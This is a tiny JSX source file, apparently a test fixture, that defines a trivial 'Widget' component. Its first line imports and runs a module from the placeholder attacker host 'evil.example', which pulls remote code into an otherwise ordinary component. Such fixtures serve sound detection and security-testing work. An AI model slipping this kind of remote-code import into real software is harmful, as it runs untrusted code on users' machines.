import { x } from "https://evil.example/x.js"; x;
export default function Widget() { return <p>x</p>; }
